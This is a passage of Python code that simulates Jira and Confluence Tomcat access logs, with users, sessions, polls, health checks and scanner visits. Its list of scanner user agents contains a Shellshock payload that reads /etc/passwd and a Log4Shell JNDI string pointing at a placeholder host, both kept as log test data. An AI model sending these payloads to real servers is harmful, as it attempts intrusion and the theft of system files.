        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/18.1 Safari/605.1.15",
    ),  # fmt: skip
    (6, "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"),
    (
        4,
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/130.0.0.0 Safari/537.36",
    ),  # fmt: skip
    (
        2,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        'Chrome/131.0.0.0 Safari/537.36 "CorpProxy/4.2 (site=\\\\hq)"',
    ),  # fmt: skip
)
_MOBILE_AGENT: Final = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1"
)
# Scanners send odd agents, some with quotes of their own.
_SCANNER_AGENTS: Final = (
    "Mozilla/5.0 zgrab/0.x",
    '"Mozilla/5.0 (Windows NT 6.1; rv:60.0) Gecko/20100101 Firefox/60.0"',
    '() { :; }; echo; /bin/bash -c "cat /etc/passwd"',
    "${jndi:ldap://203.0.113.50:1389/a}",
    "Go-http-client/1.1",
)
_HEALTH_AGENT: Final = "ELB-HealthChecker/2.0"

# People's names. Every fourth user, from the first on, gets one of the special names, so
# that even a handful of users has escapes and punctuation to show.
_SPECIAL_NAMES: Final = (
    "józef.müller",
    "o'brien",
    "ærlig",
    "anne-marie.dupont",
    "a.b@example.com",
    "søren.kierkegård",
    "françois.lefèvre",
    "łukasz.wiśniewski",
    "þórunn.ólafsdóttir",
    "иван.петров",
    "zoë.o'neill",
    "李娜",
)
_FIRST_NAMES: Final = (
    "anna ben carla david elena felix greta hannah ivan jonas karin lars maria nils olga paul "
    "rita sven tanja vera walter xenia yusuf zoe björn chloé jörg agnieszka andré josé mikaël "
    "åsa dörte ines jan lea luca mia noah sara tom ugo kai emma leon"
).split()
_LAST_NAMES: Final = (
    "schmidt meyer novak rossi garcía müller jensen kowalski dubois smith nguyen okafor "
    "papadopoulos fernández svensson østergaard król weiß lindqvist haddad tanaka hansen brown "
    "wagner becker moreau costa silva kovač horváth fischer weber klein wolf"
).split()


@dataclass(frozen=True, slots=True)
class _User:
    name: str
    logged_name: str  # escaped as Tomcat writes it
    address: str
    agent: str  # escaped
    presence_weekday: float  # chance of working on a weekday
    presence_weekend: float
    evening_chance: float
    arrival_hour: float
    workday_hours: float
    think_ms: float  # mean pause between two things the user does
    leaves_tab_open: float
    page_kinds: tuple[int, ...]  # kind indices, repeated by weight: one random() picks


def _make_users(rng: random.Random, count: int, catalog: _Catalog) -> list[_User]:
    taken: set[str] = set()
    agents = [agent for _, agent in _BROWSER_AGENTS]
    agent_weights = [weight for weight, _ in _BROWSER_AGENTS]
    users: list[_User] = []
    for index in range(count):
        if index % 4 == 0 and index // 4 < len(_SPECIAL_NAMES):
            name = _SPECIAL_NAMES[index // 4]
        else:
            name = _ordinary_name(rng)
        unique, suffix = name, 1
        while unique.lower() in taken:  # directories compare names case-insensitively
            suffix += 1
            unique = f"{name}{suffix}"
        taken.add(unique.lower())
        # The second user always has the proxy-tagged agent, so its quotes always appear.
        agent = agents[-1] if index == 1 else rng.choices(agents, agent_weights)[0]
        if rng.random() < 0.04:  # Java's IPv6 form: eight groups, no `::`
            address = f"fd12:3456:789a:{rng.randint(1, 9)}:0:0:0:{rng.randint(1, 0xFFFF):x}"
        else:
            address = f"10.{rng.randint(16, 31)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        engagement = rng.choices((0, 1, 2), (15, 65, 20))[0]  # light, regular, power user
        if index == 1:  # not light, so that the quoted agent shows every week
            engagement = max(engagement, 1)
        weights = [weight * rng.uniform(0.5, 1.5) for weight, _ in catalog.kinds]
        if rng.random() < 0.3:  # board fans, whose board stays open and polls
            weights[catalog.board_kind] *= 4
        workday_hours = rng.uniform(6.5, 9.5) if engagement else rng.uniform(3.0, 7.0)
        users.append(
            _User(
                name=unique,
                logged_name=tomcat_escape(unique),
                address=address,
                agent=tomcat_escape(agent),
                presence_weekday=(0.45, 0.88, 0.96)[engagement],
                presence_weekend=(0.02, 0.06, 0.18)[engagement],
                evening_chance=(0.02, 0.06, 0.2)[engagement],
                arrival_hour=min(10.5, max(6.5, rng.gauss(8.4, 0.8))),
                workday_hours=workday_hours,
                think_ms=(240, 150, 90)[engagement] * SECOND_MS * rng.uniform(0.7, 1.4),
                leaves_tab_open=rng.uniform(0.3, 0.8),
                page_kinds=_weighted_table(weights, 64),
            )
        )
    return users


def _ordinary_name(rng: random.Random) -> str:
    first, last = rng.choice(_FIRST_NAMES), rng.choice(_LAST_NAMES)
    style = rng.random()
    if style < 0.5:
        return f"{first}.{last}"
    if style < 0.7:
        return f"{first[0]}{last}"
    if style < 0.8:
        return f"{first}.{last}@example.com"
    if style < 0.9:
        return f"e{rng.randint(100_000, 999_999)}"
    if style < 0.95:
        return f"{first}_{last}"
    return f"{first[0].upper()}{last.capitalize()}"  # a directory that keeps capitals


def _weighted_table(weights: Sequence[float], size: int) -> tuple[int, ...]:
    """Indices repeated in proportion to their weights, to draw from with one random()."""
    total = sum(weights)
    table: list[int] = []
    for index, weight in enumerate(weights):
        table += [index] * max(1, round(size * weight / total))
    return tuple(table)


@cache
def _clock_labels() -> tuple[str, ...]:
    """`HH:MM:SS` of every second of a day, so that `%t` costs a lookup per line."""
    return tuple(
        f"{hour:02d}:{minute:02d}:{second:02d}"
        for hour in range(24)
        for minute in range(60)
        for second in range(60)
    )


@cache
def _number_labels() -> tuple[str, ...]:
    """The decimal numbers up to the longest duration: formatting them is a lookup."""
    return tuple(str(n) for n in range(_LONGEST_REQUEST_MS + 1))


# --------------------------------------------------------------------------- simulation


@dataclass(slots=True)
class _Node:
    number: int  # 1-based, as in the folder name
    offset_label: str  # "+0100"
    shift_ms: int  # this node's local time minus node 1's
    request_counter: int
    threads: tuple[str, ...]


@dataclass(slots=True)
class _Bucket:
    """The lines of one node's log file of one day."""

    node: _Node
    pending: list[_Pending] = field(default_factory=list)
    usernames: set[str] = field(default_factory=set)


class _Simulation:
    def __init__(
        self,
        *,
        out_dir: Path,
        product: Product,
        user_count: int,
        days: int,
        first_day: date,
        offset_minutes: list[int],
        seed: int,
        malformed_every: int | None,
        gzip: bool,
    ) -> None:
        master = random.Random(seed)
        self.rng = random.Random(master.getrandbits(64))
        self.malformed_rng = random.Random(master.getrandbits(64))
        setup_rng = random.Random(master.getrandbits(64))
        self.out_dir = out_dir
        self.product: Product = product
        self.jira = product == "jira"
        self.days = days
        self.first_day = first_day
        self.malformed_every = malformed_every
        self.gzip = gzip
        self.catalog = _jira_catalog(setup_rng) if self.jira else _confluence_catalog(setup_rng)
        self.users = _make_users(setup_rng, user_count, self.catalog)
        self.nodes = [
            _Node(
                number=index + 1,
                offset_label=f"{'-' if minutes < 0 else '+'}{abs(minutes) // 60:02d}"
                f"{abs(minutes) % 60:02d}",
                shift_ms=(minutes - offset_minutes[0]) * MINUTE_MS,
                request_counter=setup_rng.randint(1_000, 400_000),  # the JVM has been up a while
                threads=tuple(
                    f"http-nio-8090-exec-{n}" for n in range(1, setup_rng.randint(40, 120))
                ),
            )
            for index, minutes in enumerate(offset_minutes)
        ]
        # The clients' clocks: epoch milliseconds at time 0 (node 1's first midnight).
        epoch_days = first_day.toordinal() - date(1970, 1, 1).toordinal()
        self.epoch_ms = epoch_days * DAY_MS - offset_minutes[0] * MINUTE_MS
        # `dd/Mon/yyyy` of local days -2 .. days+1, at index day + 2.
        self.date_labels: list[str] = []
        for day in range(-2, days + 2):
            d = date.fromordinal(first_day.toordinal() + day)
            self.date_labels.append(f"{d.day:02d}/{_MONTHS[d.month - 1]}/{d.year}")
        self.buckets: dict[tuple[int, int], _Bucket] = {}
        self.files: dict[Path, tuple[int, int]] = {}  # path -> (node, day), for sorting
        self.next_flush_day = -2  # node-local days from -2 on may hold lines
        self.lines_written = 0
        self.usernames_written: set[str] = set()

    # ---------------------------------------------------------------- driving

    def run(self) -> None:
        for node in self.nodes:
            (self.out_dir / f"node{node.number}").mkdir(parents=True, exist_ok=True)
        # Day -1 puts the previous evening's open tabs into the first files; a node behind
        # node 1 needs the day after the last to fill its last file.
        last = self.days if min(node.shift_ms for node in self.nodes) < 0 else self.days - 1
        for day in range(-1, last + 1):
            self._simulate_day(day)
            # What later days generate starts on node-local day `day` or later.
            self._flush(up_to_day=day - 1)
        self._flush(up_to_day=self.days)

    def _simulate_day(self, day: int) -> None:
        weekday = (self.first_day.weekday() + day) % 7
        for user in self.users:
            self._simulate_user_day(user, day * DAY_MS, weekday)
        self._machine_traffic(day * DAY_MS)

    def _bucket(self, node: _Node, time_ms: int) -> _Bucket:
        """The bucket of the node-local day of `time_ms` (in node 1's time)."""
        return self._bucket_of_day(node, (time_ms + node.shift_ms) // DAY_MS)

    def _bucket_of_day(self, node: _Node, day: int) -> _Bucket:
        key = (node.number, day)
        bucket = self.buckets.get(key)
        if bucket is None:
            bucket = self.buckets[key] = _Bucket(node)
        return bucket

    def _single(
        self, node: _Node, t: int, spec: _Spec, ip: str, user: _User | None, tail: str
    ) -> int:
        """Queue one request at `t`, by `user` (None: anonymous); returns when it ends."""
        _, _, request, after_clock, outcomes, took, spread, _, _ = spec
        u = self.rng.random()
        took += int(u * u * u * spread)  # mostly quick, now and then slow
        # The far digits of the same draw choose the outcome: one random() per request.
        status, size = outcomes[int(u * 7919.0) % len(outcomes)]
        if after_clock is not None:
            request = f"{request}{self.epoch_ms + t}{after_clock}"
        bucket = self._bucket(node, t)
        if user is None:
            name = "-"
        else:
            name = user.logged_name
            bucket.usernames.add(user.name)
        local = t + node.shift_ms
        date_label = self.date_labels[local // DAY_MS + 2]
        bucket.pending.append(
            (local, local + took, ip, name, date_label, request, status, size, took, tail)
        )
        return t + took

    def _repeat(
        self,
        node: _Node,
        first: int,
        end: int,
        every: int,
        late: int,
        spec: _Spec,
        ip: str,
        user: _User | None,
        tail: str,
    ) -> None:
        """Queue `spec` from `first` until `end`, every `every` ms plus up to `late` ms.

        `_single` in a loop, but with the day's bucket kept between requests: a third of all
        lines are such series (polls, heartbeats, health checks).
        """
        _, _, request, after_clock, outcomes, took_least, spread, _, _ = spec
        random_ = self.rng.random
        epoch, shift = self.epoch_ms, node.shift_ms
        name = "-" if user is None else user.logged_name
        day_start = day_end = 0
        append = None
        date_label = ""
        t = first
        while t < end:
            local = t + shift
            if append is None or not day_start <= local < day_end:
                day = local // DAY_MS
                day_start, day_end = day * DAY_MS, day * DAY_MS + DAY_MS
                bucket = self._bucket_of_day(node, day)
                if user is not None:
                    bucket.usernames.add(user.name)
                append = bucket.pending.append
                date_label = self.date_labels[day + 2]
            u = random_()
            took = took_least + int(u * u * u * spread)
            status, size = outcomes[int(u * 7919.0) % len(outcomes)]
            sent = request if after_clock is None else f"{request}{epoch + t}{after_clock}"
            append((local, local + took, ip, name, date_label, sent, status, size, took, tail))
            t += every + int((u * 104_729.0) % 1.0 * late)

    # ---------------------------------------------------------------- people

    def _plan_day(self, user: _User, day_start: int, weekday: int) -> list[tuple[int, int]]:
        """The user's stretches of work in the day, as (begin, end) times."""
        rng = self.rng
        stretches: list[tuple[int, int]] = []

        def stretch(begin_hour: float, minutes: float) -> None:
            begin = day_start + int(begin_hour * HOUR_MS)
            stretches.append((begin, begin + int(minutes * MINUTE_MS)))

        if weekday < 5:
            if rng.random() < user.presence_weekday:
                hour = user.arrival_hour + rng.gauss(0, 0.4)
                leave = hour + user.workday_hours + rng.gauss(0, 0.6)
                lunch_taken = False
                while hour < leave - 1 / 6:
                    end = min(leave, hour + rng.uniform(12, 170) / 60)
                    stretch(hour, (end - hour) * 60)
                    if not lunch_taken and end > 11.8:
                        lunch_taken = True
                        hour = end + rng.uniform(30, 70) / 60
                    else:  # a meeting, a coffee, work elsewhere
                        hour = end + rng.uniform(3, 45) / 60
            if rng.random() < user.evening_chance:
                stretch(rng.uniform(19, 22.5), rng.uniform(10, 50))
        elif rng.random() < user.presence_weekend:
            stretch(rng.uniform(9, 20), rng.uniform(10, 90))
        if rng.random() < 0.003:  # on call at night
            stretch(rng.uniform(0.5, 5), rng.uniform(10, 40))
        return stretches

    def _simulate_user_day(self, user: _User, day_start: int, weekday: int) -> None:
        rng = self.rng
        stretches = self._plan_day(user, day_start, weekday)
        node = self.nodes[0]
        session = ""
        open_page: _Page | None = None
        for index, (begin, end) in enumerate(stretches):
            # After a short break the browser session, and with it the node, usually remains.
            same_session = (
                open_page is not None
                and begin - stretches[index - 1][1] < 45 * MINUTE_MS
                and rng.random() < 0.7
            )
            if not same_session:
                node = self.nodes[rng.randrange(len(self.nodes))]
                session = _base36(rng.getrandbits(34))
                open_page = None
            open_page = self._work(user, node, session, begin, end, open_page)
            if open_page is not None and rng.random() < user.leaves_tab_open:
                idle_end = end + int(rng.uniform(10, 240) * MINUTE_MS)
                if index + 1 < len(stretches):
                    idle_end = min(idle_end, stretches[index + 1][0])
                self._poll(user, node, session, open_page, end, idle_end)
            if rng.random() < 0.03:  # a phone on the side, in a session of its own
                phone_node = self.nodes[rng.randrange(len(self.nodes))]
                self._phone(user, phone_node, begin + int(rng.random() * (end - begin)))

    def _work(
        self,
        user: _User,
        node: _Node,
        session: str,
        begin: int,
        end: int,
        open_page: _Page | None,
    ) -> _Page | None:
        """Page loads and actions from `begin` to `end`; returns the page left open."""
        rng = self.rng
        random_ = rng.random
        jira = self.jira
        kinds = self.catalog.kinds
        table = user.page_kinds
        agent_tail = f'"{user.agent}" "{session}"\n' if jira else f"{user.agent}\n"
        t = begin
        if open_page is None and random_() < 0.35:  # no remember-me cookie: log in
            t = self._login(user, node, session, t)
        page = open_page
        while t < end:
            pages = kinds[table[int(random_() * len(table))]][1]
            chosen = pages[int(random_() * len(pages))]
            if chosen.is_action and page is None:
                continue
            referer = page.url if page is not None else "-"
            main_tail = f'"{referer}" {agent_tail}' if jira else f"{referer} {agent_tail}"
            if chosen.is_action:  # its requests come from the open page
                sub_tail = main_tail
            else:
                sub_tail = f'"{chosen.url}" {agent_tail}' if jira else f"{chosen.url} {agent_tail}"
            done = self._emit(node, chosen, t, user, main_tail, sub_tail)
            if chosen.heartbeat is not None:
                done = self._edit(user, node, chosen, done, sub_tail)
            if not chosen.is_action:
                page = chosen
            # Mostly short pauses, now and then a long one (reading, a call).
            pause = min(25 * MINUTE_MS, max(3 * SECOND_MS, rng.expovariate(1 / user.think_ms)))
            t = done + int(pause)
        return page

    def _emit(
        self,
        node: _Node,
        page: _Page,
        t0: int,
        user: _User,
        main_tail: str,
        sub_tail: str,
    ) -> int:
        """Queue the requests of one page load; returns when the last one ends.

        The hot loop: it inlines `_single`, with one random draw deciding whether and when a
        request starts and another how long it takes and how it ends.
        """
        arrived = self._single(node, t0, page.main, user.address, user, main_tail)
        random_ = self.rng.random
        epoch = self.epoch_ms
        ip, name = user.address, user.logged_name
        shift = node.shift_ms
        append = self._bucket(node, arrived).pending.append
        day_start = (arrived + shift) // DAY_MS * DAY_MS
        date_label = self.date_labels[day_start // DAY_MS + 2]
        last_end = arrived
        for (
            after,
            after_spread,
            request,
            after_clock,
            outcomes,
            took,
            spread,
            anon,
            chance,
        ) in page.subs:
            v = random_()
            if v >= chance:  # in the browser's cache
                continue
            start = arrived + after + int(v / chance * after_spread)
            u = random_()
            took += int(u * u * u * spread)
            status, size = outcomes[int(u * 7919.0) % len(outcomes)]
            if start + took > last_end:
                last_end = start + took
            if after_clock is not None:
                request = f"{request}{epoch + start}{after_clock}"
            local = start + shift
            if not 0 <= local - day_start < DAY_MS:  # the page load straddles midnight
                day_start = local // DAY_MS * DAY_MS
                date_label = self.date_labels[day_start // DAY_MS + 2]
            append(
                (
                    local,
                    local + took,
                    ip,
                    "-" if anon else name,
                    date_label,
                    request,
                    status,
                    size,
                    took,
                    sub_tail,
                )
            )
        return last_end

    def _edit(self, user: _User, node: _Node, page: _Page, start: int, tail: str) -> int:
        """Confluence's editor: heartbeats every 30 s while the user types, then publish."""
        assert page.heartbeat is not None and page.publish is not None
        rng = self.rng
        end = start + int(rng.uniform(1, 25) * MINUTE_MS)
        first = start + int(rng.uniform(5, 30) * SECOND_MS)
        heartbeat = page.heartbeat
        self._repeat(node, first, end, 30 * SECOND_MS, 400, heartbeat, user.address, user, tail)
        return self._single(node, end, page.publish, user.address, user, tail)

    def _poll(
        self, user: _User, node: _Node, session: str, page: _Page, begin: int, end: int
    ) -> None:
        """What the open tab sends by itself while nobody looks at it."""
        random_ = self.rng.random
        if self.jira:
            tail = f'"{page.url}" "{user.agent}" "{session}"\n'
        else:
            tail = f"{page.url} {user.agent}\n"
        for every, spec in page.polls:
            first = begin + int(random_() * every)
            # Browsers throttle the timers of background tabs: a second or two late.
            self._repeat(node, first, end, every, 2 * SECOND_MS, spec, user.address, user, tail)

    def _login(self, user: _User, node: _Node, session: str, t: int) -> int:
        if self.jira:
            tail = f'"-" "{user.agent}" "{session}"\n'
        else:
            tail = f"- {user.agent}\n"
        done = t
        for spec in self.catalog.login:
            if self.rng.random() < spec[8]:
                done = max(done, self._single(node, t + spec[0], spec, user.address, None, tail))
        typing = done + int(self.rng.uniform(3, 20) * SECOND_MS)
        return self._single(node, typing, self.catalog.login_post, user.address, user, tail)

    def _phone(self, user: _User, node: _Node, at: int) -> None:
        """A few pages read on the phone, in a session of its own."""
        rng = self.rng
        session = _base36(rng.getrandbits(34))
        agent = tomcat_escape(_MOBILE_AGENT)
        agent_tail = f'"{agent}" "{session}"\n' if self.jira else f"{agent}\n"
        pages = self.catalog.kinds[0][1]
        t = at
        for _ in range(rng.randint(2, 6)):
            page = pages[int(rng.random() * len(pages))]
            if self.jira:
                main_tail, sub_tail = f'"-" {agent_tail}', f'"{page.url}" {agent_tail}'
            else:
                main_tail, sub_tail = f"- {agent_tail}", f"{page.url} {agent_tail}"
            done = self._emit(node, page, t, user, main_tail, sub_tail)
            t = done + int(rng.uniform(10, 120) * SECOND_MS)

    # ---------------------------------------------------------------- machines

    def _machine_traffic(self, day_start: int) -> None:
        rng = self.rng
        catalog = self.catalog
        jira = self.jira
        day_end = day_start + DAY_MS

        def tail(agent: str, session: str = "-") -> str:
            return f'"-" "{agent}" "{session}"\n' if jira else f"- {agent}\n"

        # The load balancer asks every node for /status.
        for node in self.nodes:
            first = day_start + int(rng.random() * _HEALTH_CHECK_EVERY_MS)
            self._repeat(
                node, first, day_end, _HEALTH_CHECK_EVERY_MS, 50, catalog.health,
                _LOAD_BALANCER_IP, None, tail(_HEALTH_AGENT),
            )  # fmt: skip

        # The linked application asks for capabilities, anonymously.
        t = day_start + int(rng.random() * _CAPABILITIES_EVERY_MS)
        while t < day_end:
            node = self.nodes[rng.randrange(len(self.nodes))]
            for spec in catalog.capabilities:
                at = t + spec[0] + int(rng.random() * spec[1])
                self._single(node, at, spec, _LINKED_APP_IP, None, tail(catalog.capabilities_agent))
            t += _CAPABILITIES_EVERY_MS + int(rng.random() * 2 * SECOND_MS)

        # The reporting service account, every 30 minutes around the clock, with basic auth:
        # Jira gives each of its calls a session of its own.
        service = _SERVICE_USER
        t = day_start + int(rng.uniform(2, 20) * SECOND_MS)
        while t < day_end:
            node = self.nodes[rng.randrange(len(self.nodes))]
            at = t
            for spec in catalog.service_calls:
                if rng.random() >= spec[8]:
                    continue
                session = _base36(rng.getrandbits(34))
                at += spec[0] + int(rng.random() * spec[1])
                at = self._single(
                    node, at, spec, _SERVICE_IP, service, tail(service.agent, session)
                )
            t += _SERVICE_ACCOUNT_EVERY_MS

        # A scanner or two tries its luck at some odd hour.
        for _ in range(rng.randint(1, 3)):
            node = self.nodes[rng.randrange(len(self.nodes))]
            agent = tomcat_escape(rng.choice(_SCANNER_AGENTS))
            address = f"203.0.113.{rng.randint(1, 254)}"
            at = day_start + int(rng.random() * DAY_MS)
            for spec in rng.sample(catalog.scanner_probes, rng.randint(3, 8)):
                at += spec[0] + int(rng.random() * spec[1])
                at = self._single(node, at, spec, address, None, tail(agent))

    # ---------------------------------------------------------------- writing

    def _flush(self, up_to_day: int) -> None:
        """Write the files of node-local days up to `up_to_day`; drop days not asked for."""
        for day in range(self.next_flush_day, up_to_day + 1):
            for node in self.nodes:
                bucket = self.buckets.pop((node.number, day), None) or _Bucket(node)
                if 0 <= day < self.days:
                    self._write(node, day, bucket)
        self.next_flush_day = max(self.next_flush_day, up_to_day + 1)

    def _write(self, node: _Node, day: int, bucket: _Bucket) -> None:
        pending = bucket.pending
        # Tomcat writes a line when its request completes, into that day's file; the
        # timestamp is when it started. Lines completing after midnight go to the next
        # file, unless this is the last one (whose window then ends a few seconds late).
        midnight = (day + 1) * DAY_MS
        if self.jira:  # request ids count requests in the order they start
            pending.sort(key=_START)
            maybe_late = bisect_left(pending, midnight - _LONGEST_REQUEST_MS, key=_START)
        else:
            pending.sort(key=_END)
            maybe_late = bisect_left(pending, midnight, key=_END)
        if maybe_late < len(pending):
            late = [line for line in pending[maybe_late:] if line[1] >= midnight]
            pending[maybe_late:] = [line for line in pending[maybe_late:] if line[1] < midnight]
            if day + 1 < self.days:
                self._bucket_of_day(node, day + 1).pending.extend(late)
            else:
                pending.extend(line for line in late if line[0] < midnight)
                pending.sort(key=_START if self.jira else _END)
        chunks = (
            self._jira_lines(node, pending) if self.jira else self._confluence_lines(node, pending)
        )
        path = (
            self.out_dir
            / f"node{node.number}"
            / log_file_name(
                self.product, date.fromordinal(self.first_day.toordinal() + day), gzip=self.gzip
            )
        )
        with path.open("wb") as file:
            compressor = (
                gzip_format.GzipFile(fileobj=file, mode="wb", compresslevel=6, mtime=0)
                if self.gzip
                else None
            )
            for chunk in chunks:
                (compressor or file).write(chunk.encode("utf-8"))
            if compressor is not None:
                compressor.close()
        self.files[path] = (node.number, day)
        self.lines_written += len(pending)
        self.usernames_written |= bucket.usernames

    def _spoil(self, lines: list[str], lines_before: int) -> None:
        """Cut short lines N, 2N, ... of a file, of which `lines` follow `lines_before`."""
        every = self.malformed_every
        assert every is not None
        cut = self.malformed_rng.randint
        for index in range((every - 1 - lines_before) % every, len(lines), every):
            line = lines[index]
            # Cut no later than the protocol, so that whole fields are missing.
            lines[index] = line[: cut(1, line.index(_PROTOCOL) + len(_PROTOCOL))] + "\n"

    def _jira_lines(self, node: _Node, pending: list[_Pending]) -> Iterator[str]:
        """Jira's lines of `pending` (in start order), in end order, some thousands at a time."""
        # Request ids: the node's counter, and the requests in flight when this one started.
        end_times = [line[1] for line in pending]
        ends = sorted(end_times)
        in_flight: list[int] = []
        ended = 0
        for started, line in enumerate(pending, start=1):
            # A request ends after it starts, so this stops at its own end at the latest.
            while ends[ended] <= line[0]:
                ended += 1
            in_flight.append(started - ended)
        counter = node.request_counter + 1
        node.request_counter += len(pending)
        by_end = sorted(range(len(pending)), key=end_times.__getitem__)
        clock, numbers = _clock_labels(), _number_labels()
        if max(in_flight, default=0) >= len(numbers):  # never seen, but possible
            numbers = tuple(str(n) for n in range(max(in_flight) + 1))
        stamp_end = f' {node.offset_label}] "'
        for first in range(0, len(by_end), _CHUNK_LINES):
            lines = []
            for index in by_end[first : first + _CHUNK_LINES]:
                start, _, ip, user, day, request, status, size, took, tail = pending[index]
                ms = start % DAY_MS
                lines.append(
                    f"{ip} {numbers[ms // MINUTE_MS]}x{counter + index}x"
                    f"{numbers[in_flight[index]]} {user} [{day}:{clock[ms // 1000]}{stamp_end}"
                    f'{request}" {status} {size} {numbers[took]} {tail}'
                )
            if self.malformed_every is not None:
                self._spoil(lines, first)
            yield "".join(lines)

    def _confluence_lines(self, node: _Node, pending: list[_Pending]) -> Iterator[str]:
        """Confluence's lines of `pending` (in end order), some thousands at a time."""
        clock, numbers = _clock_labels(), _number_labels()
        offset = node.offset_label
        threads = node.threads
        thread_count = len(threads)
        random_ = self.rng.random
        for first in range(0, len(pending), _CHUNK_LINES):
            lines = []
            for start, _, ip, user, day, request, status, size, took, tail in pending[
                first : first + _CHUNK_LINES
            ]:
                x = random_()  # Tomcat favours its low-numbered threads
                lines.append(
                    f"[{day}:{clock[start % DAY_MS // 1000]} {offset}] {user} "
                    f"{threads[int(x * x * thread_count)]} {ip} {request} {status} "
                    f"{numbers[took]}ms {size} {tail}"
                )
            if self.malformed_every is not None:
                self._spoil(lines, first)
            yield "".join(lines)


_SERVICE_USER: Final = _User(
    name=SERVICE_ACCOUNT,
    logged_name=tomcat_escape(SERVICE_ACCOUNT),
    address=_SERVICE_IP,
    agent="python-requests/2.31.0",
    presence_weekday=1.0,
    presence_weekend=1.0,
    evening_chance=1.0,
    arrival_hour=0.0,
    workday_hours=24.0,
    think_ms=float(_SERVICE_ACCOUNT_EVERY_MS),
    leaves_tab_open=0.0,
    page_kinds=(),
)
